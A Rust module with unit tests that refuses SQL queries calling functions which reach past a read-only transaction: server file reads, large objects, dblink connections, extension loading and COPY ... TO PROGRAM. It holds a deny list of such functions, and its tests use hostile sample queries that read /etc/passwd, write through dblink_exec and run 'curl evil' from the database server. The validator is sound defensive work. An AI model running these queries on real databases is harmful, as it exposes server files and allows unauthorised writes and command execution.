//! What a `[database] query` may not call. A READ ONLY transaction stops
//! INSERT and UPDATE, but not a function that opens another connection
//! (`dblink_exec` writes through it), runs SQL given as text, reads the
//! server's files or loads code. The query comes from billguard.toml, which a
//! pull request can change, so such calls are refused before it is sent.
//!
//! The check reads tokens, not raw text: comments and string literals are
//! skipped, quoted identifiers are unquoted, and a name counts only when a
//! `(` follows it, so that a column named `lo_cost` passes while
//! `"LO_IMPORT" (` and `public.dblink (` do not.

/// Functions refused by exact name (lower case).
const REFUSED: &[&str] = &[
    // Postgres: server files, large objects, other connections, settings, other sessions.
    "pg_read_file", "pg_read_binary_file", "pg_ls_dir", "pg_stat_file", "pg_file_write", "pg_logdir_ls", "pg_ls_logdir", "pg_ls_waldir",
    "pg_ls_tmpdir", "pg_ls_archive_statusdir", "lo_import", "lo_export", "lo_from_bytea", "lo_put", "lo_unlink", "lo_create", "lo_creat",
    "lo_open", "lo_write", "lowrite", "loread", "query_to_xml", "query_to_xml_and_xmlschema", "query_to_xmlschema", "cursor_to_xml",
    "set_config", "pg_terminate_backend", "pg_cancel_backend", "pg_reload_conf", "pg_rotate_logfile", "pg_promote", "pg_switch_wal",
    "pg_create_restore_point", "pg_advisory_lock", "postgres_fdw_disconnect",
    "postgres_fdw_disconnect_all", "postgres_fdw_get_connections", "pg_execute_server_program",
    // MySQL / MariaDB: server files, user-defined system calls.
    "load_file", "sys_exec", "sys_eval",
    // SQLite: extensions and file access.
    "load_extension", "readfile", "writefile", "edit", "fts3_tokenizer",
];

/// Function name prefixes refused (dblink and all its variants).
const REFUSED_PREFIXES: &[&str] = &["dblink"];

/// The first refused function the query calls, by its name as written.
pub fn refused_call(query: &str) -> Option<String> {
    let tokens = tokens(query);
    for (i, t) in tokens.iter().enumerate() {
        let Token::Name(name) = t else { continue };
        if tokens.get(i + 1) != Some(&Token::Open) {
            continue;
        }
        let lower = name.to_ascii_lowercase();
        if REFUSED.contains(&lower.as_str()) || REFUSED_PREFIXES.iter().any(|p| lower.starts_with(p)) {
            return Some(name.clone());
        }
    }
    // `COPY ... TO PROGRAM`: runs a shell command on the server.
    let words: Vec<String> = tokens.iter().filter_map(|t| if let Token::Name(n) = t { Some(n.to_ascii_lowercase()) } else { None }).collect();
    if words.first().is_some_and(|w| w == "copy") && words.iter().any(|w| w == "program") {
        return Some("COPY ... PROGRAM".into());
    }
    None
}

#[derive(Debug, PartialEq)]
enum Token {
    /// An identifier or keyword; a schema-qualified name keeps only its last part.
    Name(String),
    Open,
    Other,
}

/// The query as names and parentheses, without comments and literals.
fn tokens(q: &str) -> Vec<Token> {
    let b = q.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'-' && b.get(i + 1) == Some(&b'-') || c == b'#' {
            i = q[i..].find('\n').map_or(b.len(), |n| i + n);
        } else if c == b'/' && b.get(i + 1) == Some(&b'*') {
            i = q[i + 2..].find("*/").map_or(b.len(), |n| i + 2 + n + 2);
        } else if c == b'\'' {
            // 'it''s' and E'\'' alike: skip to the closing quote.
            i += 1;
            while i < b.len() {
                if b[i] == b'\\' {
                    i += 2;
                    continue;
                }
                if b[i] == b'\'' {
                    if b.get(i + 1) == Some(&b'\'') {
                        i += 2;
                        continue;
                    }
                    break;
                }
                i += 1;
            }
            i += 1;
            out.push(Token::Other);
        } else if c == b'$' && let Some(end_tag) = dollar_tag(&q[i..]) {
            // $tag$ ... $tag$ (Postgres dollar quoting).
            let body = i + end_tag.len();
            i = q[body..].find(end_tag).map_or(b.len(), |n| body + n + end_tag.len());
            out.push(Token::Other);
        } else if c == b'"' || c == b'`' || c == b'[' {
            let close = if c == b'[' { b']' } else { c };
            let start = i + 1;
            let end = b[start..].iter().position(|x| *x == close).map_or(b.len(), |n| start + n);
            push_name(&mut out, q[start..end].to_string());
            i = end + 1;
        } else if c.is_ascii_alphabetic() || c == b'_' {
            let start = i;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] == b'$') {
                i += 1;
            }
            push_name(&mut out, q[start..i].to_string());
        } else if c == b'(' {
            out.push(Token::Open);
            i += 1;
        } else if c.is_ascii_whitespace() {
            i += 1;
        } else if c == b'.' {
            // `schema.fn(`: the next name replaces this one.
            if let Some(Token::Name(_)) = out.last() {
                out.pop();
            }
            i += 1;
        } else {
            out.push(Token::Other);
            i += 1;
        }
    }
    out
}

fn push_name(out: &mut Vec<Token>, name: String) {
    out.push(Token::Name(name));
}

/// `$tag$` at the start of `s`, when it opens a dollar-quoted string.
fn dollar_tag(s: &str) -> Option<&str> {
    let rest = &s[1..];
    let end = rest.find('$')?;
    let tag = &rest[..end];
    tag.chars().all(|c| c.is_ascii_alphanumeric() || c == '_').then(|| &s[..end + 2])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn calls_that_reach_beyond_the_transaction_are_refused() {
        for q in [
            "SELECT id, c AS customer_id, dblink_exec('host=x', 'UPDATE users SET plan = ''free''') IS NOT NULL AS access FROM users",
            "SELECT id, customer_id, true AS access FROM users WHERE public.dblink ('x', 'y') IS NULL",
            "SELECT id, customer_id, \"LO_IMPORT\" ('/etc/passwd') > 0 AS access FROM users",
            "SELECT id, customer_id, length(pg_read_file('/etc/passwd')) > 0 AS access FROM users",
            "SELECT id, customer_id, LOAD_FILE('/etc/passwd') IS NULL AS access FROM users",
            "select id, customer_id, load_extension('x') as access from users",
            "SELECT id, customer_id, (query_to_xml('select 1', true, true, '')) IS NULL AS access FROM users",
            "COPY users TO PROGRAM 'curl evil'",
        ] {
            assert!(refused_call(q).is_some(), "{q}");
        }
    }

    #[test]
    fn names_in_columns_comments_and_strings_pass() {
        for q in [
            "SELECT u.id, u.stripe_id AS customer_id, (s.status = 'active') AS access, lo_cost FROM users u JOIN subs s ON s.u = u.id",
            "SELECT id, customer_id, access FROM users -- dblink_exec('x')\n",
            "SELECT id, customer_id, access FROM users /* pg_read_file('x') */ WHERE note <> 'dblink(1)'",
            "SELECT id, customer_id, access FROM users WHERE note <> $q$ load_file( $q$",
            "SELECT id, coalesce(customer_id, '') AS customer_id, count(*) > 0 AS access FROM users GROUP BY id, customer_id",
        ] {
            assert_eq!(refused_call(q), None, "{q}");
        }
    }
}
